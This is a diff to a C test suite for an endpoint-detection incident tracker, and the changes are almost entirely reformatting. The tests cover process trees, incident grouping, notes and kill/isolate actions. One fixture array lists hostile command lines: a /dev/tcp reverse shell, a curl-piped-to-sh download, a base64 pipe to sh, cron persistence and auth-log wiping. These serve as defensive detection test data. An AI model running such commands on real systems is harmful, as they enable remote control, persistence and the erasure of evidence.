@@ -18,9 +18,11 @@ static bool found(struct scene *s, int64_t at, const struct scene_process *p, co
 	return scene_start(s, DEVICE, at, p) && scene_detect_process(s, DEVICE, at, p, rule, ret);
 }
 
-static const struct scene_process sshd = { "{sshd}", "{init}", "/usr/sbin/sshd", "sshd: tanaka",
-					   "/lib/systemd/systemd", "/sbin/init", NULL };
-static const struct scene_process shell = { "{shell}", "{sshd}", "/bin/bash", "-bash",
+static const struct scene_process sshd = {
+	"{sshd}",     "{init}", "/usr/sbin/sshd", "sshd: tanaka", "/lib/systemd/systemd",
+	"/sbin/init", NULL
+};
+static const struct scene_process shell = { "{shell}",	      "{sshd}",	      "/bin/bash", "-bash",
 					    "/usr/sbin/sshd", "sshd: tanaka", "tty" };
 
 static struct scene_process below(const char *guid, const char *parent, const char *image,
@@ -34,8 +36,10 @@ TEST(attacks_from_one_shell_are_one_incident_each)
 	struct scene s;
 	struct incident_absorbtion first[5], again;
 	static const char *const command[] = {
-		"sh -c echo aWQ= | base64 -d | sh", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-		"sh -c echo x > /etc/cron.d/x", "sh -c : > /var/log/auth.log",
+		"sh -c echo aWQ= | base64 -d | sh",
+		"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+		"sh -c echo x > /etc/cron.d/x",
+		"sh -c : > /var/log/auth.log",
 		"sh -c curl http://10.0.0.1/x | sh",
 	};
 	static const char *const guid[] = { "{a0}", "{a1}", "{a2}", "{a3}", "{a4}" };
@@ -87,10 +91,10 @@ TEST(shell_older_than_the_agent)
 	struct scene s;
 	struct incident_absorbtion a, b, c, file, again;
 	/* Nobody has told of {old}. */
-	const struct scene_process p = { "{p}", "{old}", "/bin/sh", "sh -c x", "/bin/bash", "bash",
-					 NULL };
-	const struct scene_process q = { "{q}", "{old}", "/bin/sh", "sh -c y", "/bin/bash", "bash",
-					 NULL };
+	const struct scene_process p = { "{p}",	      "{old}", "/bin/sh", "sh -c x",
+					 "/bin/bash", "bash",  NULL };
+	const struct scene_process q = { "{q}",	      "{old}", "/bin/sh", "sh -c y",
+					 "/bin/bash", "bash",  NULL };
 	const struct scene_process r = below("{r}", "{p}", "/usr/bin/id", "id");
 
 	scene_open(&s);
@@ -122,10 +126,10 @@ TEST(ancestor_that_is_known_later)
 	struct scene s;
 	struct incident_absorbtion a, b, c;
 	/* The child arrives before its parent. */
-	const struct scene_process child = { "{c}", "{p}", "/usr/bin/id", "id", "/bin/sh", "sh -c x",
-					     NULL };
-	const struct scene_process parent = { "{p}", "{shell}", "/bin/sh", "sh -c x", "/bin/bash",
-					      "-bash", NULL };
+	const struct scene_process child = { "{c}",	"{p}",	   "/usr/bin/id", "id",
+					     "/bin/sh", "sh -c x", NULL };
+	const struct scene_process parent = { "{p}",	   "{shell}", "/bin/sh", "sh -c x",
+					      "/bin/bash", "-bash",   NULL };
 	const struct scene_process second = below("{e}", "{p}", "/usr/bin/curl", "curl y");
 
 	scene_open(&s);
@@ -171,7 +175,8 @@ TEST(same_event_and_rule_is_known)
 	REQUIRE(scene_detect(&s, "r", LEVEL_HIGH, &b));
 	CHECK_INT(b.what, INCIDENT_KNOWN);
 	CHECK_STR(b.incident, a.incident);
-	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) == 0);
+	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
+		0);
 	CHECK_INT(page.detection_count, 1);
 	CHECK_INT(page.incident.detections, 1);
 	scene_close(&s);
@@ -207,14 +212,15 @@ TEST(page_shows_tree_reasons_and_techniques)
 
 	scene_open(&s);
 	REQUIRE(scene_start(&s, DEVICE, 0, &sshd) && scene_start(&s, DEVICE, 10, &shell) &&
-		scene_start(&s, DEVICE, 1000, &p) &&
-		scene_start(&s, DEVICE, 1000, &before) && found(&s, 1001, &q, "r", &a));
+		scene_start(&s, DEVICE, 1000, &p) && scene_start(&s, DEVICE, 1000, &before) &&
+		found(&s, 1001, &q, "r", &a));
 	/* Children that no rule finds join the tree; one of the shell does not. */
 	REQUIRE(scene_start(&s, DEVICE, 1002, &r) && scene_end(&s, DEVICE, 1003, "{r}"));
 	REQUIRE(scene_start(&s, DEVICE, 1004,
 			    &(struct scene_process){ "{z}", "{shell}", "/bin/ls", "ls", NULL, NULL,
 						     NULL }));
-	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) == 0);
+	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
+		0);
 	REQUIRE(page.process_count == 5);
 	CHECK_SV(page.process[0].guid, SV("{shell}"));
 	CHECK(page.process[0].context && !page.process[0].flagged);
@@ -261,7 +267,8 @@ TEST(tree_is_bounded)
 	const struct scene_process last = below("{last}", "{p}", "/bin/evil", "evil");
 	REQUIRE(found(&s, 3000, &last, "r2", &b));
 	CHECK_STR(b.incident, a.incident);
-	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) == 0);
+	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
+		0);
 	CHECK_INT(page.process_count, INCIDENT_PROCESSES_MAX - 100 + 1);
 	CHECK_SV(page.process[page.process_count - 1].guid, SV("{last}"));
 	scene_close(&s);
@@ -299,7 +306,8 @@ TEST(processes_of_a_device_are_bounded)
 		now = ask(&s, "SELECT sum(processes) FROM incident_log");
 		most = now > most ? now : most;
 	}
-	CHECK(most >= INCIDENT_DEVICE_PROCESSES_MAX && most < 2 * INCIDENT_DEVICE_PROCESSES_MAX + 1000);
+	CHECK(most >= INCIDENT_DEVICE_PROCESSES_MAX &&
+	      most < 2 * INCIDENT_DEVICE_PROCESSES_MAX + 1000);
 	CHECK(ask(&s, "SELECT count(*) FROM incident_log") < 64);
 	REQUIRE(store_begin(s.store, &s.err) == 0);
 	CHECK_INT(incident_expire_processes(s.store, (struct instant){ 0 }, 10, &s.err), 0);
@@ -430,8 +438,8 @@ TEST(assigning_states_and_notes)
 			    &s.err) == -1);
 	CHECK(incident_note(s.store, &scene_all, id, SV("\xff"), SV("sato"), scene_time(9002),
 			    &s.err) == -1);
-	CHECK(incident_note(s.store, &foreign, id, SV("x"), SV("sato"), scene_time(9002),
-			    &s.err) == -1);
+	CHECK(incident_note(s.store, &foreign, id, SV("x"), SV("sato"), scene_time(9002), &s.err) ==
+	      -1);
 	CHECK_INT(s.err.code, ERR_NOT_FOUND);
 	REQUIRE(store_commit(s.store, &s.err) == 0);
 	REQUIRE(incident_load(s.store, &scene_all, id, s.arena, &page, &s.err) == 0);
@@ -464,8 +472,11 @@ TEST(actions_from_wish_to_result)
 	char action[UUID_TEXT_MAX], other[UUID_TEXT_MAX];
 	size_t count;
 	struct incident_wish wish = {
-		.kind = ACTION_KILL, .target = SV("{p}"), .actor = SV("tanaka"),
-		.now = scene_time(5000), .expiry = scene_time(65000),
+		.kind = ACTION_KILL,
+		.target = SV("{p}"),
+		.actor = SV("tanaka"),
+		.now = scene_time(5000),
+		.expiry = scene_time(65000),
 	};
 
 	scene_open(&s);
@@ -495,8 +506,9 @@ TEST(actions_from_wish_to_result)
 	CHECK_STR(waiting[0].id.p, action);
 	CHECK_SV(waiting[0].target, SV("{p}"));
 	CHECK(incident_action_sent(s.store, sv_from(action), 7, scene_time(5002), &s.err) == 0);
-	CHECK(incident_action_result(s.store, SV(TESTING_COMPANY), SV(OTHER_DEVICE), sv_from(action),
-				     true, SV("x"), scene_time(5003), &s.err) == -1);
+	CHECK(incident_action_result(s.store, SV(TESTING_COMPANY), SV(OTHER_DEVICE),
+				     sv_from(action), true, SV("x"), scene_time(5003),
+				     &s.err) == -1);
 	CHECK_INT(s.err.code, ERR_NOT_FOUND);
 	CHECK(incident_action_result(s.store, SV("other"), SV(DEVICE), sv_from(action), true,
 				     SV("x"), scene_time(5003), &s.err) == -1);
@@ -505,7 +517,8 @@ TEST(actions_from_wish_to_result)
 	CHECK(incident_action_result(s.store, SV(TESTING_COMPANY), SV(DEVICE), sv_from(action),
 				     false, SV("y"), scene_time(5004), &s.err) == 0);
 	REQUIRE(store_commit(s.store, &s.err) == 0);
-	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) == 0);
+	REQUIRE(incident_load(s.store, &scene_all, sv_from(a.incident), s.arena, &page, &s.err) ==
+		0);
 	REQUIRE(page.action_count == 1);
 	CHECK_INT(page.action[0].state, ACTION_DONE);
 	CHECK_INT(page.action[0].order, 7);
@@ -526,9 +539,13 @@ TEST(actions_without_incident_refused_and_expired)
 	const struct incident_scope foreign = { .company = &stranger, .count = 1 };
 	size_t count;
 	struct incident_wish wish = {
-		.kind = ACTION_ISOLATE, .company = SV(TESTING_COMPANY), .device = SV(DEVICE),
-		.reason = SV("lost"), .actor = SV("tanaka"),
-		.now = scene_time(0), .expiry = scene_time(60000),
+		.kind = ACTION_ISOLATE,
+		.company = SV(TESTING_COMPANY),
+		.device = SV(DEVICE),
+		.reason = SV("lost"),
+		.actor = SV("tanaka"),
+		.now = scene_time(0),
+		.expiry = scene_time(60000),
 	};
 
 	scene_open(&s);
@@ -553,14 +570,17 @@ TEST(actions_without_incident_refused_and_expired)
 	REQUIRE(incident_actions(s.store, &foreign, SV(DEVICE), 10, s.arena, &action, &count,
 				 &s.err) == 0);
 	CHECK_INT(count, 0);
-	CHECK(incident_action_load(s.store, &foreign, sv_from(isolate), s.arena, &one, &s.err) == -1);
+	CHECK(incident_action_load(s.store, &foreign, sv_from(isolate), s.arena, &one, &s.err) ==
+	      -1);
 	CHECK_INT(s.err.code, ERR_NOT_FOUND);
 	CHECK_INT(incident_owner(s.store, INCIDENT_OBJECT_ACTION, sv_from(isolate), s.arena, &owner,
-				 &s.err), 1);
+				 &s.err),
+		  1);
 	CHECK_SV(owner.company, SV(TESTING_COMPANY));
 	CHECK_SV(owner.incident, SV(""));
 	CHECK_INT(incident_owner(s.store, INCIDENT_OBJECT, sv_from(isolate), s.arena, &owner,
-				 &s.err), 0);
+				 &s.err),
+		  0);
 	scene_close(&s);
 }
 
@@ -618,7 +638,8 @@ static bool trees_are_incidents(struct scene *s, uint64_t seed)
 	const size_t count = grow(&random, node);
 	char device[UUID_TEXT_MAX];
 
-	snprintf(device, sizeof device, "0193b1c0-0000-7000-8000-%012llx", (unsigned long long)seed);
+	snprintf(device, sizeof device, "0193b1c0-0000-7000-8000-%012llx",
+		 (unsigned long long)seed);
 	if (!scene_start(s, device, 0, &shell))
 		return false;
 	for (size_t i = 0; i < count; i++) {
